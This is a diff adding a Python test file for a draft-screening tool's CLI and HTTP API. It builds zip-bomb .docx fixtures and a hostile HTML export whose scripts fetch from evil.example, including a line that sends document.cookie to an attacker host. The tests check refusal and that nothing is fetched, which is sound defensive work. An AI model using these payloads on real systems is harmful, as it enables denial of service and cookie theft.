@@ -1,0 +1,119 @@
+"""Hostile rich drafts through the CLI and the HTTP API: a zip bomb dressed as .docx, and an
+HTML export full of scripts and links to other hosts that must never be fetched."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from functools import cache
+
+from .conftest import client_error, still_serving
+
+
+@cache
+def zip_bomb() -> bytes:
+    """1 MB that says (truthfully) it unpacks to 256 MB: refused from the zip's directory."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
+            chunk = b"\0" * (16 << 20)
+            for _ in range(16):
+                entry.write(chunk)
+    return buffer.getvalue()
+
+
+def lying_zip() -> bytes:
+    """A zip whose directory claims 1 KB for an entry that inflates to 64 MB."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("word/document.xml", b"<" * (64 << 20))
+    data = bytearray(buffer.getvalue())
+    # uncompressed size: in the local header (offset 22) and the central directory entry (24)
+    data[22:26] = (1024).to_bytes(4, "little")
+    central = data.rindex(b"PK\x01\x02")
+    data[central + 24:central + 28] = (1024).to_bytes(4, "little")
+    return bytes(data)
+
+
+HOSTILE_HTML = """<!doctype html><html><head><title>讲座通知</title>
+<script src="https://evil.example/x.js"></script>
+<script>fetch("https://evil.example/steal?c=" + document.cookie); 代孕广告</script>
+<link rel="stylesheet" href="https://evil.example/s.css">
+<style>@import url(https://evil.example/i.css); body { background: url(http://evil.example/b) }
+</style></head>
+<body onload="fetch('https://evil.example/onload')"><h1>讲座通知</h1><p>欢迎参加力学前沿讲座。</p>
+<img src="https://evil.example/a.png">
+<img data-src="http://evil.example/b.jpg" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
+<img src="//evil.example/c.png">
+<iframe src="https://evil.example/frame"></iframe>
+<script>document.write('<img src=https://evil.example/d.png>')</script>
+<noscript><img src="https://evil.example/e.png"></noscript>
+</body></html>"""
+
+
+# -- zip bombs as .docx -------------------------------------------------------------------------
+def test_zip_bomb_docx_is_one_error_before_inflating(screen, tmp_path):
+    path = tmp_path / "bomb.docx"
+    path.write_bytes(zip_bomb())
+    outcome = screen(path)
+    assert outcome.code == 30 and len(outcome.error_lines) == 1, outcome.stderr
+    assert str(path) in outcome.stderr and "unpacks to 268,435," in outcome.stderr
+
+
+def test_zip_with_a_lying_directory_is_one_error(screen, tmp_path):
+    path = tmp_path / "liar.docx"
+    path.write_bytes(lying_zip())
+    outcome = screen(path)
+    assert outcome.code == 30 and len(outcome.error_lines) == 1, outcome.stderr
+    assert str(path) in outcome.stderr and "docx" in outcome.stderr
+
+
+def test_zip_bomb_docx_upload_is_a_422(world):
+    for name, data in [("bomb.docx", zip_bomb()), ("liar.docx", lying_zip()),
+                       ("plain.docx", b"not a zip at all")]:
+        response = world.call("operator", "POST", "/api/drafts",
+                              data={"account_id": str(world.ids["account"])},
+                              files={"file": (name, data, "application/octet-stream")})
+        client_error(response, name)
+    still_serving(world)
+
+
+# -- HTML with scripts and links to other hosts --------------------------------------------------
+def test_html_scripts_are_not_text_and_remote_pictures_are_never_fetched(screen, tmp_path,
+                                                                         no_network):
+    path = tmp_path / "export.html"
+    path.write_text(HOSTILE_HTML, encoding="utf-8")
+    outcome = screen(path)
+    assert outcome.code == 10, outcome.stdout + outcome.stderr
+    report = outcome.reports[0]
+    assert report["verdict"] == "review"
+    notes = [f["explanation"] for f in report["findings"] if f["category"] == "stage_error"]
+    for url in ("https://evil.example/a.png", "http://evil.example/b.jpg",
+                "//evil.example/c.png"):
+        assert any(url in n and "remote image, never fetched" in n for n in notes), notes
+    # script and style bodies are not draft text: 代孕 inside a <script> is no finding
+    assert not any(f["term"] == "代孕" for f in report["findings"])
+    assert no_network == []
+
+
+def test_html_upload_with_remote_pictures_is_a_422_and_nothing_is_fetched(world, no_network):
+    response = world.call("operator", "POST", "/api/drafts",
+                          data={"account_id": str(world.ids["account"])},
+                          files={"file": ("export.html", HOSTILE_HTML.encode(), "text/html")})
+    client_error(response, "https://evil.example/a.png", "upload it as an image")
+    still_serving(world)
+    assert no_network == []
+
+
+def test_the_network_guard_catches_a_fetch(no_network):
+    """The guard the two tests above rely on does see an attempt (then forgets it, so that this
+    test itself passes)."""
+    import urllib.request
+
+    try:
+        urllib.request.urlopen("http://evil.example/x.png", timeout=1)
+    except OSError:
+        pass
+    assert no_network and "evil.example" in str(no_network[0])
+    no_network.clear()
